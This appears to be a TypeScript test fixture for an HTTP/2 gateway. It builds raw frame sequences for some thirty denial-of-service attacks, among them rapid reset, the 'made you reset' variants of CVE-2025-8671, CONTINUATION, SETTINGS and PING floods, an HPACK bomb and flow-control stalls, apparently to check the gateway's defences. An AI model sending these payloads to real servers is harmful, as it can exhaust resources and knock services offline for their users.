/** What each attack on HTTP/2 writes on a connection. */
import * as h2 from '../../../src/http2/protocol.ts';
import { blockOf, type Fields, frame, GET, number32, POST } from '../frame-client.ts';

export interface Attack {
  /** What comes behind the preface and the first SETTINGS. */
  readonly bytes: () => Buffer;
  /** What is written again and again after that, so many milliseconds apart. */
  readonly drip?: { readonly bytes: Buffer; readonly every_ms: number };
  /** It never reads what it gets. */
  readonly isDeaf?: boolean;
  /** Nothing about it is counted: each of its connections is as those of a client might be. */
  readonly isLawful?: boolean;
}

const repeat = (count: number, one: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => one(i)));
const odd = (i: number): number => i * 2 + 1;
const open = (stream: number, fields: Fields = GET, isLast = true): Buffer =>
  frame(h2.HEADERS, h2.END_HEADERS | (isLast ? h2.END_STREAM : 0), stream, blockOf(fields));
const large: Fields = [...GET.slice(0, 2), [':path', '/large'], ...GET.slice(3)];
const setting = (id: number, value: number): Buffer =>
  frame(h2.SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, id), number32(value)]));

/** One field of 4,000 bytes, and then 4,000 references to it of a byte each. */
const BOMB = Buffer.concat([
  blockOf(GET),
  Buffer.of(0x40, 1, 97, 0x7f, 0x81, 0x1e),
  Buffer.alloc(4_000, 'b'),
  Buffer.alloc(4_000, 0xbe),
]);

/** Has the gateway reset a stream that it has begun (CVE-2025-8671). */
const made = (how: (stream: number) => Buffer) => (): Buffer =>
  repeat(2_000, (i) => Buffer.concat([open(odd(i), GET), how(odd(i))]));

export const ATTACKS: Readonly<Record<string, Attack>> = {
  rapid_reset: {
    bytes: () =>
      repeat(2_000, (i) => Buffer.concat([open(odd(i)), frame(h2.RST_STREAM, 0, odd(i), number32(h2.CANCEL))])),
  },
  made_reset_window_zero: { bytes: made((stream) => frame(h2.WINDOW_UPDATE, 0, stream, number32(0))) },
  made_reset_window_overflow: { bytes: made((stream) => frame(h2.WINDOW_UPDATE, 0, stream, number32(2 ** 31 - 1))) },
  made_reset_half_closed: { bytes: made((stream) => frame(h2.DATA, 0, stream, Buffer.of(1))) },
  made_reset_priority: { bytes: made((stream) => frame(h2.PRIORITY, 0, stream, Buffer.alloc(4))) },
  continuation_flood: {
    bytes: () =>
      Buffer.concat([
        frame(h2.HEADERS, 0, 1, blockOf(GET)),
        repeat(5_000, () => frame(h2.CONTINUATION, 0, 1, blockOf([['a', 'b']]))),
      ]),
  },
  settings_flood: { bytes: () => repeat(5_000, () => frame(h2.SETTINGS, 0, 0)) },
  settings_windows: {
    bytes: () =>
      Buffer.concat([
        repeat(100, (i) => open(odd(i), POST, false)),
        repeat(5_000, (i) => setting(h2.INITIAL_WINDOW_SIZE, 65_535 + i)),
      ]),
  },
  settings_long: {
    bytes: () =>
      repeat(100, () => frame(h2.SETTINGS, 0, 0, Buffer.concat(Array(2_730).fill(Buffer.of(0, 4, 0, 0, 255, 255))))),
  },
  ping_flood: { bytes: () => repeat(5_000, () => frame(h2.PING, 0, 0, Buffer.alloc(8))) },
  ping_unread: { bytes: () => repeat(20_000, () => frame(h2.PING, 0, 0, Buffer.alloc(8))), isDeaf: true },
  priority_flood: {
    bytes: () => repeat(5_000, (i) => frame(h2.PRIORITY, 0, odd(i), Buffer.of(0, 0, 0, 0, 1))),
  },
  priority_update_flood: {
    bytes: () =>
      repeat(5_000, (i) => frame(h2.PRIORITY_UPDATE, 0, 0, Buffer.concat([number32(odd(i)), Buffer.from('u=1, i')]))),
  },
  empty_frames: { bytes: () => Buffer.concat([open(1, POST, false), repeat(5_000, () => frame(h2.DATA, 0, 1))]) },
  padded_frames: {
    bytes: () =>
      Buffer.concat([
        open(1, POST, false),
        repeat(3_000, () => frame(h2.DATA, h2.PADDED, 1, Buffer.concat([Buffer.of(64), Buffer.alloc(64)]))),
      ]),
  },
  tiny_frames: {
    bytes: () => Buffer.concat([open(1, POST, false), repeat(20_000, () => frame(h2.DATA, 0, 1, Buffer.of(1)))]),
  },
  late_data: {
    bytes: () =>
      Buffer.concat([
        open(1, POST, false),
        frame(h2.RST_STREAM, 0, 1, number32(h2.CANCEL)),
        repeat(5_000, () => frame(h2.DATA, 0, 1, Buffer.of(1))),
      ]),
  },
  unknown_frames: { bytes: () => repeat(5_000, () => frame(0xbb, 0, 0, Buffer.alloc(8))) },
  window_updates: {
    bytes: () => Buffer.concat([open(1), repeat(20_000, () => frame(h2.WINDOW_UPDATE, 0, 0, number32(1)))]),
  },
  table_updates: {
    bytes: () =>
      repeat(200, (i) =>
        frame(
          h2.HEADERS,
          h2.END_HEADERS | h2.END_STREAM,
          odd(i),
          Buffer.concat([Buffer.alloc(8_000, 0x20), blockOf(GET)]),
        ),
      ),
  },
  refused_streams: { bytes: () => repeat(3_000, (i) => open(odd(i), POST, false)) },
  many_fields: {
    bytes: () =>
      repeat(60, (i) =>
        open(odd(i), [...GET, ...Array.from({ length: 1_500 }, (_, k) => [`x-${k}`, ''] as const)].slice(0, 1_500)),
      ),
  },
  malformed: { bytes: () => repeat(3_000, (i) => open(odd(i), [...GET, ['Connection', 'close']])) },
  hpack_bomb: { bytes: () => repeat(100, (i) => frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, odd(i), BOMB)) },
  zero_window: {
    bytes: () => Buffer.concat([setting(h2.INITIAL_WINDOW_SIZE, 0), repeat(20, (i) => open(odd(i), large))]),
  },
  dripped_window: {
    bytes: () => Buffer.concat([setting(h2.INITIAL_WINDOW_SIZE, 1), repeat(20, (i) => open(odd(i), large))]),
    drip: { bytes: repeat(20, (i) => frame(h2.WINDOW_UPDATE, 0, odd(i), number32(1))), every_ms: 100 },
  },
  unread: {
    bytes: () => Buffer.concat([setting(h2.INITIAL_WINDOW_SIZE, 2 ** 24), repeat(20, (i) => open(odd(i), large))]),
    isDeaf: true,
  },
  nothing: { bytes: () => Buffer.alloc(0), isLawful: true },
  slow_head: { bytes: () => frame(h2.HEADERS, h2.END_HEADERS, 1, blockOf(GET)).subarray(0, 20) },
  idle_streams: { bytes: () => repeat(100, (i) => open(odd(i), POST, false)), isLawful: true },
};
